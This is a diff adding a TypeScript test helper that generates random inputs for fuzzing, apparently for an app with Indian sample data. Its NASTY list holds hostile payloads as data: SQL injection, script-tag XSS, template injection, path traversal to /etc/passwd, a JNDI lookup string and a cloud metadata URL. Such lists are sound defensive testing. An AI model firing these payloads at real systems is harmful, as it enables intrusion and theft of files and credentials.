@@ -1,0 +1,59 @@
+import type { Random } from '../../prisma/demo/random.ts'
+
+/** What people and attackers send: empty, long, other scripts, SQL, markup, numbers that are none. */
+export const NASTY = [
+  '',
+  ' ',
+  '0',
+  '-1',
+  'null',
+  'true',
+  '🪁🎨',
+  'नमस्ते',
+  'வணக்கம்',
+  '\u202eevil',
+  'a\0b',
+  "'; DROP TABLE users; --",
+  '%27%20OR%201=1',
+  '<script>alert(1)</script>',
+  '{{7*7}}',
+  '../../etc/passwd',
+  '${jndi:ldap://example.in/a}',
+  '9'.repeat(400),
+  'a'.repeat(10_000),
+  '1e309',
+  '2026-02-30',
+  '0000-00-00',
+  '9999-12-31',
+  'javascript:alert(1)',
+  'http://169.254.169.254/latest/meta-data',
+]
+
+export const NUMBERS = [0, 1, -1, 2, 20, 100, 101, 2 ** 31 - 1, 2 ** 31, -(2 ** 31), 1.5, 1e21, 1e308]
+
+const TEXTS = [
+  'football',
+  'Salem',
+  '636001',
+  'Chennai, Tamil Nadu',
+  '10:00-11:00',
+  '+91 98400 12345',
+  'asha@example.in',
+]
+
+/** Usually something sensible, often one of the things that are there, sometimes nonsense. */
+export function text(random: Random, known: readonly string[]) {
+  if (random.chance(0.4) && known.length > 0) return random.pick(known)
+  return random.chance(0.5) ? random.pick(TEXTS) : random.pick(NASTY)
+}
+
+export function number(random: Random) {
+  return random.chance(0.5) ? random.integer(0, 30) : random.pick(NUMBERS)
+}
+
+export function day(random: Random) {
+  const ahead = random.integer(-30, 400)
+  return random.chance(0.8)
+    ? new Date(Date.now() + ahead * 86_400_000).toISOString().slice(0, 10)
+    : random.pick(NASTY)
+}
